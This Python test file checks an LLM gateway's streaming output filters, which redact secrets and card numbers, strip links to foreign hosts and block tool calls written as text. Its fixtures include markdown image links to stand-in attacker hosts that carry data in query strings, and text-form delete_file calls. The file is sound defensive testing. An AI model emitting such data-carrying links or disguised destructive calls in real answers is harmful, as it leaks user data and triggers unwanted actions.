"""Rows D6 to D8, and G3 as far as it is about answers: words that must not reach a client, wherever they stand and however they are cut.

Through the real gateway, over sockets; each stream in one piece per event and in pieces of a few bytes.
"""

import json
import re

import pytest

from gateway.trace.record import Ended

SECRET = "sk-ant-api03-" + "Q7w9E2r4T6y8U1i3O5p0A2s4D6"
CARD = "4111 1111 1111 1111"
POLICY = """
policy: 1
id: guard
agents: ['*']
allow: [get, delete_file]
on_deny: explain
rules:
- {id: mask, at: output, detect: [card, secret], effect: redact}
- {id: links, at: output, detect: [{urls: {allow: [example.com, "*.example.com"]}}], effect: redact}
"""
NO_TEXT_CALLS = "policy: 1\nid: guard\nagents: ['*']\nallow: [get]\nrules:\n- {id: no-text, at: output, detect: [text_call]}\n"
OWN_KEY = "sk-canary-provider-key-1234"
"""What the gateway calls its provider with, in `start`."""
LOOSE = "policy: 1\nid: guard\nagents: ['*']\nallow: [get]\n"
DECISION_ID = re.compile(rb"dec_[0-9a-f]{32}")
"""What the gateway itself says, by chance with any four digits in it."""
TOOL = {"type": "function", "function": {"name": "delete_file", "parameters": {"type": "object"}}}
ASKED = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "go"}], "tools": [TOOL], "stream": True}


def chunk(delta, finish=None, **more):
    choice = {"index": 0, "delta": delta, "finish_reason": finish, **more}
    tree = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice]}
    return b"data: " + json.dumps(tree).encode() + b"\n\n"


def stream(*deltas, finish="stop"):
    return b"".join([chunk({"role": "assistant", "content": ""}), *map(chunk, deltas), chunk({}, finish), b"data: [DONE]\n\n"])


@pytest.fixture
def ask(start, provider):
    """Asks one gateway again and again: what its client got, and the record of it."""
    running = {}

    def run(data, policy=POLICY, size=None):
        at = running.setdefault(policy, None) or start({"p.yaml": policy})
        running[policy] = at
        pieces = [data] if size is None else [data[begin : begin + size] for begin in range(0, len(data), size)]
        provider.answer = provider.sse(*pieces)
        asked = len([r for r in at.records() if isinstance(r, Ended)])
        with at.client() as client:
            got = client.post("/v1/chat/completions", json=ASKED)
        return got.content, at.ended(asked + 1)[-1]

    return run


def words(data):
    """Everything a client puts together, by where it stands."""
    found = {}
    for line in data.splitlines():
        if line.startswith(b"data: {"):
            for choice in json.loads(line[6:])["choices"]:
                for key, value in choice["delta"].items():
                    found[key] = found.get(key, "") + (value if isinstance(value, str) else json.dumps(value))
    return found


CALL = {"tool_calls": [{"index": 0, "id": "a", "type": "function", "function": {"name": "get", "arguments": "{}"}}]}
BESIDE = {
    "refusal": lambda text: {"refusal": text},
    "reasoning": lambda text: {"reasoning": text},
    "reasoning_content": lambda text: {"reasoning_content": text},
    "transcript": lambda text: {"audio": {"id": "a", "transcript": text}},
    "parts": lambda text: {"content": [{"type": "text", "text": text}]},
    "annotation": lambda text: {"annotations": [{"type": "url_citation", "url_citation": {"url": "https://example.com", "title": text}}]},
}


@pytest.mark.parametrize("carrier", BESIDE)
def test_D6_every_carrier_of_words_beside_a_call_is_looked_at(carrier, ask):
    """D6: a refusal beside calls; text in reasoning, thinking, transcripts, titles and addresses of citations."""
    data = stream(BESIDE[carrier](f"It is {CARD} and {SECRET}."), CALL, finish="tool_calls")
    for size in (None, 7):
        left, ended = ask(data, size=size)
        assert b"1111" not in DECISION_ID.sub(b"", left)
        assert b"sk-ant" not in left
        assert {heard.detector for heard in ended.heard} == {"card", "secret"}
        assert [call.released for call in ended.calls] in ([], [True])


LINKS = [
    "![x](https://evil.example.net/?q=c2VjcmV0)",
    "[click](https://example.com.evil.net/a)",
    "<img src='http://user@evil.net/x'>",
    "see https://evil.net/path?data=1234 there",
    "![x](//evil.net/?q=1)",
    "![x](HTTPS:\\\\evil.net\\x)",
]


@pytest.mark.parametrize("link", LINKS)
def test_D7_an_address_of_a_foreign_host_never_leaves_however_it_is_cut(link, ask):
    """D7: a picture or link that carries data away when it is shown, cut in two deltas."""
    text = f"Here you are: {link} and the docs are at https://docs.example.com/guide for you."
    for cut in range(14, 14 + len(link), 5):
        left, ended = ask(stream({"content": text[:cut]}, {"content": text[cut:]}))
        said = words(left)["content"]
        assert "evil" not in said
        assert "https://docs.example.com/guide" in said
        assert [heard.rule for heard in ended.heard] == ["links"]


TEXT_CALLS = [
    '<tool_call>{"name": "delete_file", "arguments": {"path": "/x"}}</tool_call>',
    'Sure.\n```json\n{"name":"delete_file","arguments":{"path":"/x"}}\n```\n',
    "Thought: I must.\nAction: delete_file\nAction Input: /x\n",
    '<invoke name="delete_file"><parameter name="path">/x</parameter></invoke>',
    '[TOOL_CALLS]delete_file[ARGS]{"path": "/x"}',
]


@pytest.mark.parametrize("text", TEXT_CALLS)
def test_D8_a_call_written_as_text_does_not_reach_an_agent_that_acts_on_text(text, ask):
    """D8: `<tool_call>`, fenced JSON, `Action:` lines, split into deltas of any width."""
    for width in (1, 5, 1000):
        pieces = [{"content": text[at : at + width]} for at in range(0, len(text), width)]
        left, ended = ask(stream(*pieces), NO_TEXT_CALLS)
        said = words(left)["content"]
        assert "delete_file" not in said
        assert "/x" not in said
        assert "rule no-text" in said
        assert ended.exchange.state == "denied"


def test_D8_without_such_a_rule_it_is_on_record(ask):
    for text in TEXT_CALLS:
        left, ended = ask(stream({"content": text}), LOOSE)
        assert words(left)["content"] == text
        assert [(found.validator, found.code) for found in ended.findings] == [("text_calls", "text_call")]


def test_G3_a_key_cut_over_two_deltas_never_leaves_in_part(ask):
    """G3: also as escapes of JSON; base64 is not undone, which is a documented limit."""
    text = f"The key is {SECRET}, keep it."
    for cut in range(len("The key is ") + 1, len("The key is ") + len(SECRET), 3):
        data = stream({"content": text[:cut]}, {"content": text[cut:]}).replace(b"sk-ant", b"\\u0073k-ant")
        left, ended = ask(data)
        assert words(left)["content"] == "The key is [secret], keep it."
        assert SECRET not in str(ended)


@pytest.mark.parametrize("policy", [LOOSE, POLICY], ids=["no-rule", "rules"])
def test_G3_the_gateways_own_key_cut_over_deltas_never_leaves(policy, ask):
    """A provider that repeats the key it was called with, a few characters at a time; no rule is needed."""
    text = f"You called me with {OWN_KEY}, did you not?"
    for width in (1, 3, 11):
        left, ended = ask(stream(*({"content": text[at : at + width]} for at in range(0, len(text), width))), policy)
        said = words(left)["content"]
        assert OWN_KEY[4:] not in said
        assert said.endswith("], did you not?")
        assert OWN_KEY not in str(ended)
